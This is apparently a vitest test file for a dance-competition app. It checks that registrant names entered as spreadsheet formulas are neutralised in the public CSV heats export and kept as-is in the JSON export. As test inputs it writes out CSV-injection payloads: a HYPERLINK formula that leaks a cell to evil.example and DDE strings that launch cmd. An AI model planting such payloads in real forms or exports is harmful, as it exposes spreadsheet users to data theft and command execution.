import type { HeatsExport } from '@floorcraft/domain';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DEMO_SLUG } from './helpers/accounts';
import { addOpenEvents, dancer, OPEN_EVENT, register } from './helpers/registration';
import { sendCommand } from './helpers/send-command';
import { startTestServer, type TestServer } from './helpers/start-test-server';

/**
 * A public registration whose names are spreadsheet formulas (OWASP "CSV
 * injection"): the public heats.csv shows them as text, never as formulas,
 * while the JSON export keeps the names as registered.
 */
let server: TestServer;

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your heat")';
const COMMAND = "-2+3+cmd|' /C calc'!A0";
const SUM = '@SUM(1+1)*cmd|"/C calc"!A0';

beforeAll(async () => {
  server = await startTestServer();
  await addOpenEvents(server);
  const reply = await register(server, {
    dancer: dancer('Eve', { name: HYPERLINK, affiliation: 'Other', otherAffiliation: SUM }),
    role: 'lead',
    partner: { kind: 'new', dancer: dancer('Mal', { name: COMMAND }) },
    events: [OPEN_EVENT],
  });
  expect(reply.status, JSON.stringify(reply.body)).toBe(200);
  // The typed school is "Other" until the registrar confirms it (issue 25): confirmed, it is printed.
  const eve = (reply.body as { dancers: { competitorId: string }[] }).dancers[0]!.competitorId;
  const confirmed = await sendCommand(
    server.url,
    { type: 'settleTypedSchool', competitorId: eve },
    { token: server.token },
  );
  expect(confirmed.status, JSON.stringify(confirmed.body)).toBe(200);
  const rounds = await sendCommand(
    server.url,
    { type: 'generateRounds', eventName: OPEN_EVENT },
    { token: server.token },
  );
  expect(rounds.status, JSON.stringify(rounds.body)).toBe(200);
});

afterAll(async () => {
  await server.dispose();
});

const exported = async (file: string) =>
  (await fetch(`${server.url}/api/competitions/${DEMO_SLUG}/export/${file}`)).text();

describe('formulas in a public export', () => {
  it('heats.csv shows a registered formula as text', async () => {
    const parsed = Papa.parse<Record<string, string>>(await exported('heats.csv'), {
      header: true,
      skipEmptyLines: true,
    });
    expect(parsed.errors).toEqual([]);
    const couple = parsed.data.find((row) => row.event === OPEN_EVENT);
    expect(couple).toMatchObject({
      leader: `'${HYPERLINK}`,
      follower: `'${COMMAND}`,
      school: `'${SUM}`,
    });
    const cells = parsed.data.flatMap((row) => Object.values(row));
    const formulas = cells.filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-[\d.]+$/.test(cell));
    expect(formulas).toEqual([]);
  });

  it('heats.json keeps the names as registered: it is data, not a spreadsheet', async () => {
    const doc = JSON.parse(await exported('heats.json')) as HeatsExport;
    const couples = doc.rounds
      .filter((round) => round.event === OPEN_EVENT)
      .flatMap((round) => round.heats.flatMap((heat) => heat.couples));
    expect(couples).toContainEqual(
      expect.objectContaining({ leader: HYPERLINK, follower: COMMAND, school: SUM }),
    );
  });
});
